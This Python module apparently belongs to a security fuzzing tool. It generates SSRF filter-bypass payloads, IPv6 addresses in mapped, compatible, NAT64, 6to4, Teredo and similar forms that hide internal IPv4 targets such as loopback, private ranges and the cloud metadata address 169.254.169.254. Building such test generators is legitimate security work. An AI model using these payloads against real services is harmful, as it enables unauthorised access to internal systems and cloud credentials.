"""IPv6 addresses that carry an internal IPv4 one, one technique for each registered form."""

from collections.abc import Iterator
from ipaddress import IPv4Address, IPv6Address

from capfuzz.attacks.techniques.registry import Kind, techniques_for

address = techniques_for(Kind.ADDRESS, "ssrf")
_CWE = "CWE-918"
_INNER = ("127.0.0.1", "10.20.30.40", "192.168.1.1", "169.254.169.254", "172.31.0.1")


def _needs(form: str) -> str:
    return f"judges {form} by its outside, while a gateway or the system takes it to what is inside"


def _carried(prefix: str, shift: int = 0, *, inverted: bool = False) -> Iterator[str]:
    """Put each inner address behind ``prefix``, ``shift`` bits from the end."""
    for inner in _INNER:
        bits = int(IPv4Address(inner)) ^ (0xFFFFFFFF if inverted else 0)
        yield str(IPv6Address(int(IPv6Address(prefix)) | bits << shift))


def _dotted(prefix: str) -> Iterator[str]:
    for inner in _INNER[:3]:
        yield f"{prefix}{inner}"


@address(
    "carried-mapped",
    group="carried-mapped",
    cwe=_CWE,
    needs=_needs("a mapped address (RFC 4291, 2.5.5.2)"),
)
def carried_mapped() -> Iterator[str]:
    """Map the address: sockets of IPv6 connect to the IPv4 one."""
    for inner in _INNER:
        bits = int(IPv4Address(inner))
        yield f"::ffff:{bits >> 16:x}:{bits & 0xFFFF:x}"
    yield from _dotted("::ffff:")
    yield "0:0:0:0:0:ffff:127.0.0.1"
    yield "0000:0000:0000:0000:0000:ffff:7f00:0001"
    yield "::FFFF:127.0.0.1"
    yield "::ffff:0.0.0.0"
    yield "::ffff:100.64.0.1"


@address(
    "carried-compatible",
    group="carried-compatible",
    cwe=_CWE,
    needs=_needs("a compatible address (RFC 4291, 2.5.5.1)"),
)
def carried_compatible() -> Iterator[str]:
    """Write the deprecated compatible form."""
    yield from _carried("::")
    yield from _dotted("::")


@address(
    "carried-translated",
    group="carried-translated",
    cwe=_CWE,
    needs=_needs("a translated address (RFC 2765)"),
)
def carried_translated() -> Iterator[str]:
    """Write the form that stateless translators use."""
    yield from _carried("::ffff:0:0:0")
    yield from _dotted("::ffff:0:")


@address(
    "carried-nat64",
    group="carried-nat64",
    cwe=_CWE,
    needs=_needs("an address of the well-known NAT64 prefix (RFC 6052)"),
)
def carried_nat64() -> Iterator[str]:
    """Put the address behind the well-known prefix of NAT64."""
    yield from _carried("64:ff9b::")
    yield from _dotted("64:ff9b::")


@address(
    "carried-6to4",
    group="carried-6to4",
    cwe=_CWE,
    needs=_needs("a 6to4 address (RFC 3056)"),
)
def carried_6to4() -> Iterator[str]:
    """Put the address into a 6to4 prefix, with an interface behind it and without."""
    yield from _carried("2002::", 80)
    yield from _carried("2002::1", 80)


@address(
    "carried-teredo",
    group="carried-teredo",
    cwe=_CWE,
    needs=_needs("a Teredo address (RFC 4380)"),
)
def carried_teredo() -> Iterator[str]:
    """Make the address the client of Teredo, its bits inverted."""
    yield from _carried("2001:0:c000:201::", inverted=True)
